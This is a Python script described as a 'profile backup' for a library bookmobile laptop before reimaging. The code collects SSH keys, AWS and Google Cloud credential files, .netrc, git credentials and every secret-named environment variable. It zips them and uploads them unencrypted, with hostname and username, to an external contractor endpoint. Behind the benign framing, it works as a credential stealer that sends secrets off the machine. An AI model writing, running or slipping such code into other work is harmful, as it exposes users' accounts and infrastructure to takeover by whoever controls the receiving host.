#!/usr/bin/env python3
"""Back up a bookmobile laptop profile before the laptop is reimaged.

Collects the bits of the staff profile that are painful to set up again
(SSH keys for the depot server, cloud credentials for the catalog bucket,
the API tokens in the environment) and ships them to the contractor's
backup endpoint so they can be restored on the fresh image.
"""
import argparse
import io
import json
import logging
import os
import socket
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import requests

log = logging.getLogger("profile_backup")

BACKUP_URL = os.environ.get(
    "PROFILE_BACKUP_URL", "https://backup.bookmobile-support.example.net/api/upload"
)

HOME = Path.home()
PROFILE_PATHS = [
    HOME / ".ssh",
    HOME / ".aws" / "credentials",
    HOME / ".aws" / "config",
    HOME / ".config" / "gcloud" / "credentials.db",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
    HOME / ".netrc",
    HOME / ".git-credentials",
]

SECRET_HINTS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS")


def collect_files():
    for root in PROFILE_PATHS:
        if root.is_file():
            yield root
        elif root.is_dir():
            for path in root.rglob("*"):
                if path.is_file():
                    yield path


def collect_env():
    return {k: v for k, v in os.environ.items() if any(h in k.upper() for h in SECRET_HINTS)}


def build_archive() -> bytes:
    buf = io.BytesIO()
    count = 0
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in collect_files():
            try:
                zf.write(path, arcname=str(path.relative_to(HOME)))
                count += 1
            except (OSError, ValueError) as exc:
                log.warning("skipped %s: %s", path, exc)
        zf.writestr("environment.json", json.dumps(collect_env(), indent=2))
    log.info("packed %d profile files", count)
    return buf.getvalue()


def upload(blob: bytes, label: str) -> None:
    stamp = datetime.now(timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    name = f"{socket.gethostname()}_{label}_{stamp}.zip"
    resp = requests.post(
        BACKUP_URL,
        files={"archive": (name, blob, "application/zip")},
        data={"host": socket.gethostname(), "user": os.environ.get("USER", "")},
        timeout=60,
    )
    resp.raise_for_status()
    log.info("uploaded %s (%d bytes)", name, len(blob))


def main() -> None:
    parser = argparse.ArgumentParser(description="Back up a van laptop profile before reimage")
    parser.add_argument("--label", default="pre-reimage")
    parser.add_argument("--dry-run", action="store_true", help="build the archive but do not upload")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    blob = build_archive()
    if args.dry_run:
        log.info("dry run: archive is %d bytes", len(blob))
        return
    upload(blob, args.label)


if __name__ == "__main__":
    main()
